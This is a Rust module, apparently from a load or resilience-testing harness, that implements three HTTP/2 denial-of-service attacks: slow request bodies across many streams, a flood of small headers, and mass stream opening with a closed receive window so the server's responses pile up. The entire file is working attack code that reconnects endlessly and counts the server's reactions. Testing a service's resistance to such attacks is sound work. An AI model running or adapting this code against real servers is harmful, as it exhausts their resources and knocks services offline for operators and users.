//! Many streams on one HTTP/2 connection of an unauthenticated caller.

use std::collections::HashMap;
use std::io;
use std::thread;
use std::time::{Duration, Instant};

use crate::Outcome;
use crate::h2::block;
use crate::h2::connection::{Connection, Event};
use crate::h2::frames::{DATA, END_HEADERS, END_STREAM, HEADERS, frame};
use crate::scene::Scene;

/// The window that a client grants the server on each stream, if it reads responses.
const GRANTED: u32 = 1 << 20;
/// The time until a client connects again.
const AGAIN: Duration = Duration::from_millis(500);
/// The interval and the size of each stream's chunks.
const TURN: Duration = Duration::from_millis(250);
const PIECE_BYTES: i64 = 4_096;
/// The number of streams that are opened in one turn.
const OPENED_AT_ONCE: usize = 250;
/// The number of small headers in a header flood.
const FLOOD_HEADERS: usize = 90;
/// The largest stream identifier that is used.
const LAST_STREAM: u32 = 0x7fff_fff0;

/// The behavior of the streams.
pub(crate) struct Plan {
    /// The number of streams that are kept open.
    pub(crate) streams: usize,
    /// Whether each stream sends a body slowly, or requests a response that the client never reads.
    pub(crate) body: Body,
    pub(crate) more_headers: usize,
}

#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Body {
    /// The body is sent in small chunks.
    Slow,
    /// There is no body. A response is requested, and its window is closed.
    NoneTaken,
}

/// Sends bodies slowly.
pub(crate) fn slow(scene: &Scene<'_>) -> Outcome<()> {
    let plan = Plan {
        streams: 1_000,
        body: Body::Slow,
        more_headers: 0,
    };
    run(scene, &plan)
}

/// Sends bodies slowly, with many small headers.
pub(crate) fn header_flood(scene: &Scene<'_>) -> Outcome<()> {
    let plan = Plan {
        streams: 1_000,
        body: Body::Slow,
        more_headers: FLOOD_HEADERS,
    };
    run(scene, &plan)
}

/// Requests responses endlessly and never reads them.
pub(crate) fn closed_window(scene: &Scene<'_>) -> Outcome<()> {
    let plan = Plan {
        streams: 50_000,
        body: Body::NoneTaken,
        more_headers: 0,
    };
    run(scene, &plan)
}

fn run(scene: &Scene<'_>, plan: &Plan) -> Outcome<()> {
    while scene.is_running() {
        if let Err(error) = connect(scene, plan)
            && scene.is_running()
        {
            scene.tally.count(&format!("connection ended ({error})"));
        }
        thread::sleep(AGAIN);
    }
    Ok(())
}

fn connect(scene: &Scene<'_>, plan: &Plan) -> Outcome<()> {
    let certificate = scene.certificate.ok_or("this attack needs TLS")?;
    let granted = match plan.body {
        Body::Slow => GRANTED,
        Body::NoneTaken => 0,
    };
    let mut client = Client {
        connection: Connection::open(scene.address(), certificate, granted)?,
        open: HashMap::new(),
        next: 1,
        plan,
        headers: headers(plan),
    };
    let ended = client.run(scene);
    if !scene.is_running() {
        scene.tally.add("still open", client.open.len());
    }
    ended
}

fn headers(plan: &Plan) -> Vec<u8> {
    let (method, path) = match plan.body {
        Body::Slow => ("POST", "/graphql"),
        Body::NoneTaken => ("GET", "/graphql/schema.graphql"),
    };
    let key = "sl_live_0123456789012345678901234567890123456789012345678";
    let mut headers = vec![
        (":method", method),
        (":scheme", "https"),
        (":path", path),
        (":authority", "localhost"),
        ("x-api-key", key),
        ("authorization", "Bearer slat_0123456789"),
        ("content-type", "application/json"),
    ];
    let names: Vec<_> = (0..plan.more_headers)
        .map(|number| format!("x-{number}"))
        .collect();
    headers.extend(names.iter().map(|name| (name.as_str(), "1")));
    block(&headers)
}

/// A connection, and the bytes that each open stream may send.
struct Client<'a> {
    connection: Connection,
    open: HashMap<u32, i64>,
    next: u32,
    plan: &'a Plan,
    headers: Vec<u8>,
}

impl Client<'_> {
    fn run(&mut self, scene: &Scene<'_>) -> Outcome<()> {
        while scene.is_running() {
            let begun = Instant::now();
            self.open_streams()?;
            self.send_pieces()?;
            while begun.elapsed() < TURN {
                self.take(scene)?;
            }
        }
        Ok(())
    }

    fn open_streams(&mut self) -> io::Result<()> {
        let missing = self.plan.streams.saturating_sub(self.open.len());
        let flags = match self.plan.body {
            Body::Slow => END_HEADERS,
            Body::NoneTaken => END_HEADERS | END_STREAM,
        };
        let mut frames = Vec::new();
        for _ in 0..missing.min(OPENED_AT_ONCE) {
            if self.next >= LAST_STREAM {
                return Err(io::Error::other("no stream is left"));
            }
            frames.extend(frame(HEADERS, flags, self.next, &self.headers));
            self.open.insert(self.next, self.connection.stream_window);
            self.next += 2;
        }
        self.connection.send(&frames)
    }

    fn send_pieces(&mut self) -> io::Result<()> {
        if self.plan.body == Body::NoneTaken {
            return Ok(());
        }
        let mut frames = Vec::new();
        for (stream, window) in &mut self.open {
            let piece = PIECE_BYTES.min(*window).min(self.connection.window);
            let Ok(bytes @ 1..) = usize::try_from(piece) else {
                continue;
            };
            frames.extend(frame(DATA, 0, *stream, &vec![b' '; bytes]));
            *window -= piece;
            self.connection.window -= piece;
        }
        self.connection.send(&frames)
    }

    /// Counts the server's reactions.
    fn take(&mut self, scene: &Scene<'_>) -> Outcome<()> {
        for event in self.connection.poll()? {
            match event {
                Event::Answered { stream, status } => {
                    scene.tally.count(&status.to_string());
                    // A stream whose response is not read stays open.
                    if self.plan.body == Body::Slow {
                        self.open.remove(&stream);
                    }
                }
                Event::Reset { stream, code } => {
                    scene.tally.count(&format!("stream reset (code {code})"));
                    self.open.remove(&stream);
                }
                Event::Granted { stream, bytes } => {
                    if let Some(window) = self.open.get_mut(&stream) {
                        *window += bytes;
                    }
                }
                Event::GoAway(code) => return Err(format!("goodbye, code {code}").into()),
            }
        }
        Ok(())
    }
}
